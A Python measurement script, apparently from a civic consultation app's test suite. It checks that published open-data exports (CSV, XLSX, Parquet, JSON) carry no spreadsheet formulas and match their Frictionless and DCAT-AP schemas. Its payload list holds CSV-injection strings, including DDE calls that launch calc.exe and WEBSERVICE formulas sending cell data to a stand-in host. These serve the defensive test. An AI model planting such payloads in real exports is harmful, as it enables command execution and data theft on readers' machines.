"""Every dataset in every format, reopened by others: LibreOffice finds no formula, polars reads what the schema says.

Five hundred texts that a spreadsheet could run are handed in, published and exported. LibreOffice opens workbook and
CSV, told to evaluate formulas, and writes flat XML, in which a formula is an attribute. Table Schemas are checked
against Frictionless' profile and the catalogue against the shapes of DCAT-AP.
"""

import io
import itertools
import json
import shutil
import subprocess
import tempfile
import warnings
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import jsonschema
import polars
import pyshacl
import rdflib
from flask.testing import FlaskClient
from sqlalchemy import update

from consulta.app import create_app
from consulta.db import session, unit_of_work
from consulta.opendata.building import refresh
from consulta.opendata.columns import DAY, INSTANT, INTEGER, NUMBER, Dataset
from consulta.opendata.datasets import EVERY
from consulta.opendata.shelf import Shelf
from consulta.record.sequencing import sequence_everything
from consulta.submissions.models import Submission
from consulta.submissions.operations import receive_batch
from consulta.submissions.rules import clean_text
from measure.instances import DATABASES, SHARED, Instance, instances
from tests.builders import SECRET, World, a_delivery, an_answered

PAYLOADS = 500
START = datetime(2026, 6, 10, 18, 0, tzinfo=UTC)
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\n=",
    " =",
    '"=',
    "';=",
    ",=",
    "=-",
    "+=",
    "@@",
    "=@",
    "%=",
    "|=",
)
BODIES = (
    "1+1",
    "2*3",
    "A1",
    "SUM(A1:A9)",
    "SUMA(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","clic")',
    'HIPERVINCULO("http://x.example")',
    'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML("http://x.example","//a")',
    'DDE("cmd";"/C calc";"A0")',
    "NOW()",
    "AHORA()",
    "52 473 123 4567",
    "10%",
    '"texto"',
    "MSEXCEL|'\\..\\..\\Windows\\calc.exe'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "1/0",
    "IF(1;2;3)",
    "ROW()",
    'INDIRECT("A1")',
    "T(1)",
    "0x1F",
    "",
)
FORMULA = b"table:formula="
EVALUATED = "CSV:44,34,76,1,,0,false,true,true,false,false,0,true"
STANDARDS = SHARED / "standards"


def run() -> dict[str, Any]:
    """Measure on both databases."""
    with instances(*DATABASES) as made:
        found = {name: _measure(instance) for name, instance in made}
    return {"payloads": PAYLOADS, **found, "reached": all(item["reached"] for item in found.values())}


def _measure(instance: Instance) -> dict[str, Any]:
    world = instance.world(START)
    with instance.scope() as database:
        texts = _hand_in(world)
        with unit_of_work():
            sequence_everything(START)
        refresh(Shelf(instance.settings.open_data), START)
        session().rollback()
        client = create_app(instance.settings, database=database, clock=lambda: START).test_client()
        formulas = {form: _formulas(client, form) for form in ("csv", "xlsx")}
        unread = [
            f"{item.name}.{form}"
            for item in EVERY
            for form in ("parquet", "json", "csv")
            if not _reads(client, item, form)
        ]
        kept = _texts_kept(client, texts)
        schemas = [item.name for item in EVERY if not _is_schema(client, item)]
        shapes = _violations(client)
    return {
        "datasets": len(EVERY),
        "handed_in": len(texts),
        "formula_cells": formulas,
        "texts_changed_in_parquet": kept,
        "not_read_by_polars": unread,
        "bad_schemas": schemas,
        "dcat_violations": shapes,
        "reached": not any(formulas.values())
        and not unread
        and not schemas
        and not shapes
        and not kept
        and len(texts) >= PAYLOADS * 0.9,
    }


def _hand_in(world: World) -> list[str]:
    payloads = [start + body for start, body in itertools.product(STARTS, BODIES)][:PAYLOADS]
    kept = [text for payload in payloads if (text := clean_text(payload)[0].strip())]
    deliveries = [
        a_delivery(
            world.topics["open"],
            START,
            draft={
                "text": text,
                "author_name": " ".join(text.split())[:200],
                "name_is_public": True,
                "article": " ".join(text.split())[:200],
                "should_say": text,
            },
        )
        for text in kept
    ]
    with unit_of_work():
        receive_batch(deliveries, secret=SECRET, clock=lambda: START)
        session().execute(
            update(Submission).values(
                state="published", reviewed_at=START, reviewed_by_post_id=world.actors["moderator"].post_id
            )
        )
    an_answered(world, START)
    return kept


def _formulas(client: FlaskClient, form: str) -> int:
    """Return how many cells LibreOffice takes for formulas, over every dataset."""
    with tempfile.TemporaryDirectory() as folder:
        paths = []
        for dataset in EVERY:
            path = Path(folder) / f"{dataset.filename}.{form}"
            path.write_bytes(client.get(f"/datos/{path.name}").data)
            paths.append(str(path))
        office = shutil.which("soffice")
        if office is None:
            raise RuntimeError("falta LibreOffice: apt-get install libreoffice-calc")
        filters = [f"--infilter={EVALUATED}"] if form == "csv" else []
        command = [office, "--headless", f"-env:UserInstallation=file://{folder}/perfil", *filters]
        subprocess.run(
            [*command, "--convert-to", "fods", "--outdir", folder, *paths], check=True, capture_output=True, timeout=300
        )
        written = list(Path(folder).glob("*.fods"))
        if len(written) != len(EVERY):
            raise RuntimeError(f"LibreOffice no abrió todo: {len(written)} de {len(EVERY)}")
        return sum(path.read_bytes().count(FORMULA) for path in written)


def _reads(client: FlaskClient, dataset: Dataset, form: str) -> bool:
    """Say whether polars reads a dataset with the columns and types of its schema."""
    body = io.BytesIO(client.get(f"/datos/{dataset.filename}.{form}").data)
    names = [column.name for column in dataset.columns]
    if form == "parquet":
        kinds = {INTEGER: polars.Int64, NUMBER: polars.Float64, INSTANT: polars.Datetime("us", "UTC"), DAY: polars.Date}
        wanted = {column.name: kinds.get(column.type, polars.String) for column in dataset.columns}
        return dict(polars.read_parquet(body).schema) == wanted
    plain = {INTEGER: polars.Int64, NUMBER: polars.Float64}
    schema = {column.name: plain.get(column.type, polars.String) for column in dataset.columns}
    if form == "csv":
        return polars.read_csv(body, schema_overrides=schema).columns == names
    return not body.getbuffer().nbytes or polars.read_ndjson(body, schema=schema).columns == names


def _texts_kept(client: FlaskClient, texts: list[str]) -> int:
    """Return how many texts Parquet does not hold as they were written: it needs no guard."""
    read = polars.read_parquet(io.BytesIO(client.get("/datos/comentarios.parquet").data))["texto"].to_list()
    return len(set(texts) - set(read))


def _is_schema(client: FlaskClient, dataset: Dataset) -> bool:
    profile = json.loads((STANDARDS / "frictionless" / "1.0" / "tableschema.json").read_text("utf-8"))
    try:
        jsonschema.validate(client.get(f"/datos/{dataset.filename}.schema.json").get_json(), profile)
    except jsonschema.ValidationError:
        return False
    return True


def _violations(client: FlaskClient) -> int:
    """Return how many shapes of DCAT-AP the catalogue violates."""
    graph = rdflib.Graph().parse(data=client.get("/data.json").text, format="json-ld")
    count = 0
    for name in ("shapes", "range"):
        rules = rdflib.Graph().parse(
            STANDARDS / "dcat-ap" / "2.1.1" / f"dcat-ap_2.1.1_shacl_{name}.ttl", format="turtle"
        )
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            conforms, results, _text = pyshacl.validate(graph, shacl_graph=rules, inference="none", advanced=True)
        if not conforms:
            count += len(set(results.subjects(rdflib.RDF.type, rdflib.SH.ValidationResult)))
    return count
